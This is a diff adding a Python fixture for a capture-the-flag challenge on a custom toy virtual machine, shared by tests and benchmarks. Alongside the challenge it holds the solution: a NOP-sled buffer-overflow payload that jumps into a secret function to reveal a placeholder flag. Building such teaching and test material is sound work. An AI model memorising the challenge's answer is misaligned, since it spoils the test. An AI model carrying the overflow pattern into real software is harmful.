@@ -0,0 +1,34 @@
+from cors_vm.base_types import uint16_t
+
+# The exploitation challenge of vm.py with a placeholder flag, shared by the
+# tests and the benchmarks
+
+# Anropa metod på minnesadress 0x3737
+MAIN_PROGRAM = b'\x08\x37\x37\x03\x09\x03\x00'
+
+# Skriv ut meddelande och återvänd
+PRINT_CLOSE = b'\x0B\xFF\x03\x72\x37\x0A'
+
+# Denna funktion ska anropas
+SECRET_FUNC = b'\x03\x73\x37\x0A'
+
+CORS_FLAG = b"CORS_CTF{flag}\x00"
+CLSCON_MSG = b"Anslutningen avslutas.\x00"
+
+# Overflows the 256 byte buffer and returns into the code at its end,
+# which calls secret_func
+EXPLOIT_CODE = b"\x08\x13\x37\x03\x09\x03\x00"
+EXPLOIT = b'\x90' * (256 - len(EXPLOIT_CODE)) + EXPLOIT_CODE + b'\x7f\x00\x7f\x00'
+
+
+def load_challenge(vm):
+    # Loads the challenge into vm, without the user supplied data
+
+    vm.load_program((uint16_t(0x3737), PRINT_CLOSE))
+    vm.load_program((uint16_t(0x1337), SECRET_FUNC), "secret_func")
+    vm.load_program((uint16_t(0x1000), MAIN_PROGRAM))
+
+    vm.load_data((uint16_t(0x7337), CORS_FLAG, "cors_flag"))
+    vm.load_data((uint16_t(0x7237), CLSCON_MSG, "con_close"))
+
+    return vm